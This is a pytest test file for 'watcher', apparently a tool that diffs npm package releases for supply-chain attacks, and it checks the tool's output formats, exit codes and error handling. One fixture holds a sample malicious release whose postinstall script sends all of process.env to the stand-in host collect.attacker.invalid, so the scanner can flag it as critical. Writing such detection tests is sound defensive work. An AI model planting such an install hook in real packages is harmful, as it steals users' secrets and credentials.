@@ -1,0 +1,273 @@
+"""The command line, in process, on local artifacts: contract, exit codes, errors."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.support import archives
+from watcher.cli import main
+from watcher.rules import REGISTRY
+
+CLEAN = {
+    "package.json": '{\n  "name": "strutil",\n  "version": "2.1.3"\n}\n',
+    "index.js": "exports.upper = (s) => s.toUpperCase();\n",
+}
+BAD = {
+    "package.json": (
+        '{\n  "name": "strutil",\n  "version": "2.1.4",\n'
+        '  "scripts": {\n    "postinstall": "node lib/setup.js"\n  }\n}\n'
+    ),
+    "index.js": CLEAN["index.js"],
+    "lib/setup.js": (
+        "const https = require('https');\n"
+        "const data = JSON.stringify(process.env);\n"
+        "const req = https.request({hostname: 'collect.attacker.invalid', method: 'POST'});\n"
+        "req.end(data);\n"
+    ),
+}
+HONEST = {**CLEAN, "index.js": CLEAN["index.js"] + "exports.lower = (s) => s.toLowerCase();\n"}
+
+
+@pytest.fixture
+def artifacts(tmp_path: Path) -> dict[str, Path]:
+    paths = {}
+    for name, files in {"clean": CLEAN, "bad": BAD, "honest": HONEST}.items():
+        path = tmp_path / f"{name}.tgz"
+        path.write_bytes(archives.npm_tarball(files))
+        paths[name] = path
+    return paths
+
+
+def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
+    code = main(list(argv))
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def test_json_contract_and_exit_1_on_malicious_diff(
+    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, err = run(
+        capsys,
+        "diff",
+        "--old",
+        str(artifacts["clean"]),
+        "--new",
+        str(artifacts["bad"]),
+        "--format",
+        "json",
+    )
+    assert code == 1, err
+    report = json.loads(out)
+    assert {
+        "schema",
+        "ecosystem",
+        "package",
+        "old_version",
+        "new_version",
+        "score",
+        "severity",
+        "findings",
+        "files",
+        "metadata",
+    } <= set(report)
+    assert report["schema"] == 1 and report["ecosystem"] == "npm"
+    assert (report["package"], report["old_version"], report["new_version"]) == (
+        "strutil",
+        "2.1.3",
+        "2.1.4",
+    )
+    assert report["severity"] == "critical" and 90 <= report["score"] <= 100
+    assert report["files"] == {"added": 1, "removed": 0, "changed": 1}
+    assert set(report["metadata"]) >= {"publisher_changed", "provenance", "version_jump"}
+    found = {(f["rule"], f["path"], f["line"]) for f in report["findings"]}
+    assert ("npm.install-script", "package.json", 5) in found
+    assert ("code.env-access", "lib/setup.js", 2) in found
+    assert ("code.network", "lib/setup.js", 3) in found
+    for f in report["findings"]:
+        assert {"rule", "severity", "path", "line", "message", "evidence"} <= set(f)
+
+
+def test_honest_release_is_quiet(
+    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = run(
+        capsys,
+        "diff",
+        "--old",
+        str(artifacts["clean"]),
+        "--new",
+        str(artifacts["honest"]),
+        "--format",
+        "json",
+    )
+    assert code == 0
+    assert json.loads(out)["severity"] in {"none", "low"}
+
+
+def test_text_report_puts_the_verdict_and_evidence_up_front(
+    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = run(
+        capsys, "diff", "--old", str(artifacts["clean"]), "--new", str(artifacts["bad"])
+    )
+    assert code == 1
+    lines = out.splitlines()
+    assert lines[0].startswith("strutil 2.1.3 → 2.1.4")
+    assert lines[1].startswith("VERDICT: CRITICAL")
+    assert "package.json:5" in out and "lib/setup.js:3" in out
+    assert "collect.attacker.invalid" in out
+
+
+@pytest.mark.parametrize(("fail_on", "expected"), [("critical", 1), ("high", 1), ("none", 0)])
+def test_fail_on_threshold(
+    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str], fail_on: str, expected: int
+) -> None:
+    code, _, _ = run(
+        capsys,
+        "diff",
+        "--old",
+        str(artifacts["clean"]),
+        "--new",
+        str(artifacts["bad"]),
+        "--fail-on",
+        fail_on,
+    )
+    assert code == expected
+
+
+def test_markdown_format(artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, _ = run(
+        capsys,
+        "diff",
+        "--old",
+        str(artifacts["clean"]),
+        "--new",
+        str(artifacts["bad"]),
+        "--format",
+        "markdown",
+    )
+    assert code == 1
+    assert "**Verdict: CRITICAL**" in out
+    assert "| high | `npm.install-script` | package.json:5 |" in out
+
+
+def test_output_file_is_written_whole(
+    artifacts: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    target = tmp_path / "report.json"
+    code, out, _ = run(
+        capsys,
+        "diff",
+        "--old",
+        str(artifacts["clean"]),
+        "--new",
+        str(artifacts["bad"]),
+        "--format",
+        "json",
+        "--output",
+        str(target),
+    )
+    assert code == 1 and out == ""
+    assert json.loads(target.read_text())["severity"] == "critical"
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".report")] == []
+
+
+def test_scan_artifact_has_null_old_version(
+    artifacts: dict[str, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = run(capsys, "scan", "--artifact", str(artifacts["bad"]), "--format", "json")
+    report = json.loads(out)
+    assert code == 1 and report["old_version"] is None
+    assert "npm.install-script" in {f["rule"] for f in report["findings"]}
+
+
+def one_error_line(err: str) -> str:
+    lines = err.strip().splitlines()
+    assert len(lines) == 1, err
+    assert "Traceback" not in err
+    assert lines[0].startswith("watcher: error:")
+    return lines[0]
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["diff", "pkg"],
+        ["diff", "--old", "x.tgz"],
+        ["diff", "pkg", "1", "2", "--format", "yaml"],
+        ["scan"],
+        ["nonsense"],
+        [],
+    ],
+)
+def test_usage_errors_exit_2_with_one_line(
+    argv: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    with pytest.raises(SystemExit) as exit_info:
+        code = main(argv)
+        raise SystemExit(code)
+    assert exit_info.value.code == 2
+    one_error_line(capsys.readouterr().err)
+
+
+def test_missing_file_and_bad_output_dir_exit_2(
+    artifacts: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, _, err = run(
+        capsys, "diff", "--old", str(tmp_path / "nope.tgz"), "--new", str(artifacts["bad"])
+    )
+    assert code == 2 and "nope.tgz" in one_error_line(err)
+    code, _, err = run(
+        capsys,
+        "diff",
+        "--old",
+        str(artifacts["clean"]),
+        "--new",
+        str(artifacts["bad"]),
+        "--output",
+        str(tmp_path / "no" / "dir.json"),
+    )
+    assert code == 2
+    one_error_line(err)
+
+
+def test_mixed_ecosystems_are_refused(
+    artifacts: dict[str, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    wheel = tmp_path / "pkg-1.0-py3-none-any.whl"
+    wheel.write_bytes(archives.wheel({"pkg/__init__.py": ""}))
+    code, _, err = run(capsys, "diff", "--old", str(artifacts["clean"]), "--new", str(wheel))
+    assert code == 2 and "different ecosystems" in one_error_line(err)
+
+
+@pytest.mark.parametrize("kind", sorted(archives.HOSTILE))
+def test_hostile_archives_exit_2_and_write_nothing(
+    kind: str,
+    artifacts: dict[str, Path],
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    filename, data = archives.HOSTILE[kind]()
+    hostile = tmp_path / filename
+    hostile.write_bytes(data)
+    work = tmp_path / "cwd"
+    work.mkdir()
+    monkeypatch.chdir(work)
+    monkeypatch.setenv("WATCHER_DATA_DIR", str(tmp_path / "data"))
+    before = sorted(tmp_path.rglob("*"))
+    code, out, err = run(capsys, "diff", "--old", str(artifacts["clean"]), "--new", str(hostile))
+    assert code == 2 and out == ""
+    one_error_line(err)
+    assert sorted(tmp_path.rglob("*")) == before
+
+
+def test_rules_list_names_every_rule(capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, _ = run(capsys, "rules", "list")
+    assert code == 0
+    for rule in REGISTRY:
+        assert rule.id in out
